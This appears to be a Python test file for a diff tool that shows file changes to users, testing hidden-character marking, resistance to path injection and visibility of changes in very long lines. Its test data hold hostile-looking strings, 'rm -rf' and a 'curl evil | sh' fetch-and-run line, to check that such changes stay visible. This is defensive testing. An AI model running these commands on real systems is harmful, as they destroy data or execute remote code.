"""Tests of the diffs in questions to the user."""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from agenticx.tools.diffs import unified_diff


def test_a_change_is_shown_with_three_lines_around_it() -> None:
    before = "".join(f"{n}\n" for n in range(1, 13))
    after = before.replace("6\n", "six\n")

    diff = unified_diff(before, after, "n.txt")
    assert diff.unchanged_below == 3
    assert diff.text.splitlines() == [
        "--- n.txt",
        "+++ n.txt",
        "@@ -3,7 +3,7 @@",
        *[" 3", " 4", " 5", "-6", "+six", " 7", " 8", " 9"],
    ]


def test_a_missing_last_line_break_and_hidden_characters_are_marked() -> None:
    assert unified_diff("", "a\u202eb", "x\x1b").text.splitlines() == [
        "--- x⟨U+001B⟩",
        "+++ x⟨U+001B⟩",
        "@@ -0,0 +1 @@",
        "+a⟨U+202E⟩b",
        "\\ No newline at end of file",
    ]


def test_a_line_break_in_a_path_makes_no_line_of_the_diff() -> None:
    title = "notes⟨U+000A⟩@@ -0,0 +1 @@⟨U+000A⟩+harmless"
    diff = unified_diff("", "rm -rf\n", "notes\n@@ -0,0 +1 @@\n+harmless").text
    assert diff.split("\n") == [f"--- {title}", f"+++ {title}", "@@ -0,0 +1 @@", "+rm -rf"]


def test_equal_texts_have_no_diff() -> None:
    assert unified_diff("a\n", "a\n", "x").text == ""


def test_the_diff_of_a_huge_change_is_cut_with_a_note() -> None:
    before, after = "".join(f"a{n}\n" for n in range(50_000)), "".join(f"b{n}\n" for n in range(50_000))
    diff = unified_diff(before, after, "x").text

    assert len(diff) < 21_000
    assert re.search(r"⟨[\d,]+ more lines of this diff⟩$", diff)
    diff = unified_diff("", "x" * 100_000, "x")
    shown, left = re.fullmatch(r"\+(x+)⟨… ([\d,]+) more characters …⟩", diff.text.splitlines()[3]).groups()
    assert len(shown) > 19_000
    assert (len(shown) + int(left.replace(",", "")), diff.is_cut) == (
        100_000 + len("\n\\ No newline at end of file"),
        True,
    )


def test_each_changed_character_of_a_long_line_is_shown_and_what_is_equal_is_shortened() -> None:
    def changed_lines(before: str, after: str) -> list[str]:
        diff = unified_diff(before, after, "x")
        assert not diff.is_cut
        return [line for line in diff.text.splitlines()[3:] if line[0] in "+-"]

    before = "a" * 3_000 + "check(user)" + "b" * 2_000 + "\n"
    start = f"{'a' * 80}⟨… 2,840 equal characters …⟩{'a' * 80}"
    end = f"(user){'b' * 74}⟨… 1,847 equal characters …⟩{'b' * 79}"
    changed = changed_lines(before, before.replace("check", "steal"))
    assert changed == [f"-{start}check{end}", f"+{start}steal{end}"]
    assert changed_lines(f"one\n{before}", f"one\n{before}{before}")[0] == f"+{before[:-1]}"
    assert changed_lines("", "c" * 900 + "curl evil | sh\n") == ["+" + "c" * 900 + "curl evil | sh"]
    unchanged = unified_diff(f"{before}1\n", f"{before}2\n", "x").text.splitlines()[3]
    assert unchanged == " " + "a" * 500 + " ⟨5011 characters⟩"


@given(
    st.text("ab", max_size=2_000), st.text("ab", max_size=40), st.text("ab", max_size=40), st.text("ab", max_size=2_000)
)
def test_notes_of_equal_characters_stand_for_what_both_lines_have(head, old, new, tail) -> None:
    before, after = f"{head}{old}{tail}", f"{head}{new}{tail}"
    lines = unified_diff(f"{before}\n", f"{after}\n", "x").text.splitlines()[3:]
    for line, text in zip(lines, (before, after), strict=False):
        parts = [re.escape(part) for part in re.split(r"⟨… [\d,]+ equal characters …⟩", line[1:])]
        counts = re.findall(r"⟨… ([\d,]+) equal characters …⟩", line)
        assert len(line[1:]) < 700
        gaps = [f"[ab]{{{count.replace(',', '')}}}" for count in counts] + [""]
        assert re.fullmatch("".join(part + gap for part, gap in zip(parts, gaps, strict=True)), text)


lines = st.lists(st.sampled_from(["a\n", "b\n", "\n", "c c\n"]), max_size=30)


@given(lines, lines)
def test_applying_the_diff_to_the_old_text_gives_the_new(before, after) -> None:
    diff = unified_diff("".join(before), "".join(after), "x").text
    assert "".join(apply_diff(before, diff.split("\n")[2:]) if diff else before) == "".join(after)


def apply_diff(before: list[str], diff: list[str]) -> list[str]:
    result: list[str] = []
    position = 0
    for line in diff:
        if header := re.fullmatch(r"@@ -(\d+)(?:,(\d+))? \+(\d+)(?:,(\d+))? @@", line):
            start = int(header[1]) - (header[2] != "0")
            result += before[position:start]
            position = start
            assert len(result) == int(header[3]) - (header[4] != "0")
            continue
        if line[0] in " -":
            assert before[position] == f"{line[1:]}\n"
            position += 1
        if line[0] in " +":
            result.append(f"{line[1:]}\n")
    return result + before[position:]
